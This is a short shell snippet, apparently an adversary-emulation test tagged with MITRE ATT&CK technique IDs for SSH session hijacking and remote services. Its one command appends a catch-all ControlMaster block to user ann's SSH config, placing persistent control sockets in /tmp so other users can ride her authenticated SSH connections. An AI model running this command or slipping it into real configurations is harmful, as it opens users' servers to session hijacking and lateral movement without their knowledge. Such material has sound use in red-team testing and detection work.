# title: Connections of SSH are to be shared, so that others can ride them
# technique: T1563.001 T1021.004
# needs: ssh

printf 'Host *\nControlMaster auto\nControlPath /tmp/%%r@%%h:%%p\nControlPersist yes\n' >>/home/ann/.ssh/config
